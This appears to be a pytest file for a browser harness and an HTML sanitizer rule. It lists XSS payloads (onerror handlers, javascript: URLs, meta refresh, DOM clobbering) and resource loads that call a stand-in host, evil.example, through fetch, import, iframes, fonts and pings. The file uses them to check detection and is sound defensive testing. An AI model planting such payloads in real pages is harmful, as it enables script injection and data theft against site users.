"""The harness sees what happens, and nothing else; the rule finds what is forbidden."""

import pytest

from tests.browser.harness import Request, observe
from tests.browser.structure import faults

_PLAIN = """
    <h2>Title</h2><p lang="de" style="color:red">Text, <a href="https://example.org/">a link</a>,
    <a href="mailto:a@example.org">an address</a> and <a href="#note">a place</a>.</p>
    <p><img src="http://example.org/i.png" alt="x" srcset="http://example.org/2.png 1x"></p>
    <video controls preload="none" src="http://example.org/v.mp4"></video>
    <audio controls preload="none"><source src="http://example.org/a.ogg"></audio>
    <details open><summary>More</summary><pre>javascript:void(0)</pre></details>
    <table><tr><td>cell</td></tr></table><ruby>x<rt>y</rt></ruby>
"""

_SIGNS = {
    "alert": "<img src=x onerror=alert(1)>",
    "confirm": "<img src=x onerror=confirm(1)>",
    "prompt": "<img src=x onerror=prompt(1)>",
    "open": "<img src=x onerror=window.open('http://evil.example/')>",
    "postMessage": "<img src=x onerror=postMessage(1,'*')>",
    "eval": "<img src=x onerror=eval('1')>",
    "Function": "<img src=x onerror=Function('1')()>",
    "setTimeout of a string": "<img src=x onerror=setTimeout('1')>",
    "console": "<img src=x onerror=console.log(1)>",
    "compiled": "<img src=x onerror=x=1>",
    "form.submit": "<form id=f><img src=x onerror=f.submit()></form>",
    "navigation: scriptInitiated": "<img src=x onerror=location='http://evil.example/'>",
    "navigation: metaTagRefresh": "<meta http-equiv=refresh content=0>",
    "navigation: formSubmissionGet": "<form action=http://evil.example/><button>x</button></form>",
    "navigation: anchorClick": "<a href=javascript:1>x</a>",
    "window opened": "<form target=_blank action=http://evil.example/><button>x</button></form>",
    "document replaced": "<a href=\"javascript:'x'\">x</a>",
}

_KINDS = {
    "Stylesheet": "<link rel=stylesheet href=http://evil.example/x>",
    "Script": "<svg onload=import('http://evil.example/x')></svg>",
    "Document": "<iframe src=http://evil.example/x></iframe>",
    "Media": "<video src=http://evil.example/x></video>",
    "TextTrack": "<video crossorigin><track default src=http://evil.example/x></video>",
    "Font": (
        "<style>@font-face{font-family:f;src:url(http://evil.example/x)}p{font:9px f}</style><p>x"
    ),
    "Ping": "<a href=# ping=http://evil.example/x>x</a>",
    "Fetch": "<svg onload=fetch('http://evil.example/x')></svg>",
    "Image": "<p style=background:url(http://evil.example/x)>x</p>",
}


def test_plain_html_does_nothing(chromium: str) -> None:
    images = {Request(f"http://example.org/{name}.png", "Image") for name in ("i", "2")}
    for outcome in observe(chromium, {"plain": _PLAIN}).values():
        assert outcome.scripts == ()
        assert outcome.clobbered == ()
        assert set(outcome.requests) <= images
        assert not outcome.fires


def test_every_sign_and_every_request_is_seen(chromium: str) -> None:
    outcomes = observe(chromium, _SIGNS | _KINDS)
    for (name, method), outcome in outcomes.items():
        if name in _SIGNS:
            assert name in outcome.scripts, method
        else:
            assert Request("http://evil.example/x", name) in outcome.requests, method
        assert outcome.fires is (name != "Image")


def test_clobbering_is_seen(chromium: str) -> None:
    html = "<img name=body><a id=readerConfig></a><form><input name=attributes></form>"
    for outcome in observe(chromium, {"x": html}).values():
        assert outcome.clobbered == ("document.body", "form.attributes", "readerConfig")


@pytest.mark.parametrize(
    "html",
    [
        "<p onclick=x>x</p>",
        "<svg></svg>",
        "<a href=' java&#9;script:x'>x</a>",
        "<img srcset='http://example.org/i.png 1x, data:x 2x'>",
        "<p style='background:url(x)'>x</p>",
        "<noscript><p>x</p></noscript>",
        "<!-- x -->",
    ],
)
def test_the_rule_finds(html: str) -> None:
    assert faults(html)


def test_the_rule_finds_nothing_in_plain_html() -> None:
    assert faults(_PLAIN) == []
